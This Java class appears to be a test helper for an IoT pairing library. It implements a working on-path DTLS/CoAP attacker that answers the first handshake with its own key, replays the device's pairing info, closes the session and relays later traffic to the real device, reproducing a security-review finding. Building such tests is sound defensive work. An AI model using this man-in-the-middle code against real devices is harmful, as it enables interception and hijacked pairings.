package dev.edgepair.internal.pairing;

import dev.edgepair.internal.secret.SecretAccess;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketAddress;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

import org.eclipse.californium.core.CoapServer;
import org.eclipse.californium.core.coap.CoAP.ResponseCode;
import org.eclipse.californium.core.coap.MediaTypeRegistry;
import org.eclipse.californium.core.coap.Response;
import org.eclipse.californium.core.config.CoapConfig;
import org.eclipse.californium.core.network.CoapEndpoint;
import org.eclipse.californium.core.network.Exchange;
import org.eclipse.californium.core.server.MessageDeliverer;
import org.eclipse.californium.elements.config.CertificateAuthenticationMode;
import org.eclipse.californium.elements.config.Configuration;
import org.eclipse.californium.scandium.DTLSConnector;
import org.eclipse.californium.scandium.config.DtlsConfig;
import org.eclipse.californium.scandium.config.DtlsConnectorConfig;
import org.eclipse.californium.scandium.dtls.CertificateType;
import org.eclipse.californium.scandium.dtls.cipher.CipherSuite;
import org.eclipse.californium.scandium.dtls.x509.SingleCertificateProvider;
import org.eclipse.californium.scandium.dtls.x509.StaticNewAdvancedCertificateVerifier;

import dev.edgepair.identity.Fingerprint;
import dev.edgepair.identity.Identity;

/**
 * The on-path attacker of the security review's first finding: it answers the client's first DTLS handshake with its
 * own key (a raw Scandium server), answers {@code GET /iam/pairing} with the real device's description if asked, then
 * sends close_notify and from then on relays every datagram to the real device, so that a client which silently
 * re-handshakes pairs with the real device over a session it never checked.
 */
final class SwitchingAttacker implements AutoCloseable {
    final Identity key = Identity.generate();
    final AtomicInteger switches = new AtomicInteger();
    final AtomicInteger relayedToDevice = new AtomicInteger();

    private final InetSocketAddress device;
    private final byte[] pairingInfo;
    private final DatagramSocket front;
    private final DTLSConnector connector;
    private final CoapServer server;
    private final Map<SocketAddress, DatagramSocket> toAttacker = new ConcurrentHashMap<>();
    private final Map<SocketAddress, DatagramSocket> toDevice = new ConcurrentHashMap<>();
    private volatile boolean relaying;
    private volatile boolean running = true;

    /**
     * @param device the real device's listener
     * @param pairingInfo the CBOR body the real device answers to {@code GET /iam/pairing}
     */
    SwitchingAttacker(InetSocketAddress device, byte[] pairingInfo) throws IOException {
        this.device = device;
        this.pairingInfo = pairingInfo.clone();
        CoapConfig.register();
        DtlsConfig.register();
        Configuration cfg = Configuration.createStandardWithoutFile();
        cfg.set(DtlsConfig.DTLS_ROLE, DtlsConfig.DtlsRole.SERVER_ONLY);
        cfg.setAsList(DtlsConfig.DTLS_CERTIFICATE_TYPES, CertificateType.RAW_PUBLIC_KEY);
        cfg.setAsList(DtlsConfig.DTLS_CIPHER_SUITES, CipherSuite.TLS_ECDHE_ECDSA_WITH_AES_128_CCM_8);
        cfg.set(DtlsConfig.DTLS_CLIENT_AUTHENTICATION_MODE, CertificateAuthenticationMode.NEEDED);
        cfg.set(DtlsConfig.DTLS_SUPPORT_KEY_MATERIAL_EXPORT, true);
        connector = new DTLSConnector(DtlsConnectorConfig.builder(cfg)
                .setAddress(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))
                .setCertificateIdentityProvider(new SingleCertificateProvider(SecretAccess.privateKey(key), key.publicKey()))
                .setAdvancedCertificateVerifier(StaticNewAdvancedCertificateVerifier.builder().setTrustAllRPKs()
                        .build())
                .build());
        server = new CoapServer(cfg);
        server.addEndpoint(new CoapEndpoint.Builder().setConfiguration(cfg).setConnector(connector).build());
        server.setMessageDeliverer(new MessageDeliverer() {
            @Override
            public void deliverRequest(Exchange exchange) {
                onRequest(exchange);
            }

            @Override
            public void deliverResponse(Exchange exchange, Response response) {
                // a server only
            }
        });
        server.start();
        front = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
        Thread t = new Thread(this::pumpFromClients, "switching-attacker-front");
        t.setDaemon(true);
        t.start();
    }

    /** Where the victim is told the device is. */
    InetSocketAddress address() {
        return (InetSocketAddress) front.getLocalSocketAddress();
    }

    Fingerprint fingerprint() {
        return key.fingerprint();
    }

    private void onRequest(Exchange exchange) {
        InetSocketAddress viaProxy = exchange.getRequest().getSourceContext().getPeerAddress();
        if (exchange.getRequest().getCode() == org.eclipse.californium.core.coap.CoAP.Code.GET
                && exchange.getRequest().getOptions().getUriPathString().equals("iam/pairing")) {
            Response r = new Response(ResponseCode.CONTENT);
            r.setPayload(pairingInfo);
            r.getOptions().setContentFormat(MediaTypeRegistry.APPLICATION_CBOR);
            exchange.sendResponse(r);
            sleepQuietly(50); // let the answer leave before the close
        }
        // Any other first request goes unanswered: the client retransmits it after the switch.
        relaying = true;
        switches.incrementAndGet();
        connector.close(viaProxy); // close_notify towards the client
    }

    private void pumpFromClients() {
        byte[] buf = new byte[65536];
        while (running) {
            try {
                DatagramPacket p = new DatagramPacket(buf, buf.length);
                front.receive(p);
                SocketAddress client = p.getSocketAddress();
                byte[] data = java.util.Arrays.copyOf(p.getData(), p.getLength());
                if (relaying) {
                    relayedToDevice.incrementAndGet();
                    toDevice.computeIfAbsent(client, this::openBack).send(new DatagramPacket(data, data.length,
                            device));
                } else {
                    toAttacker.computeIfAbsent(client, this::openBack).send(new DatagramPacket(data, data.length,
                            connector.getAddress()));
                }
            } catch (IOException e) {
                if (!running) {
                    return;
                }
            }
        }
    }

    /** A socket towards one upstream for one client; what comes back goes to that client through the front. */
    private DatagramSocket openBack(SocketAddress client) {
        try {
            DatagramSocket back = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            Thread t = new Thread(() -> {
                byte[] buf = new byte[65536];
                while (running) {
                    try {
                        DatagramPacket p = new DatagramPacket(buf, buf.length);
                        back.receive(p);
                        front.send(new DatagramPacket(p.getData(), p.getLength(), client));
                    } catch (IOException e) {
                        if (!running) {
                            return;
                        }
                    }
                }
            }, "switching-attacker-back");
            t.setDaemon(true);
            t.start();
            return back;
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void sleepQuietly(long millis) {
        try {
            TimeUnit.MILLISECONDS.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public void close() {
        running = false;
        front.close();
        toAttacker.values().forEach(DatagramSocket::close);
        toDevice.values().forEach(DatagramSocket::close);
        server.destroy();
    }
}
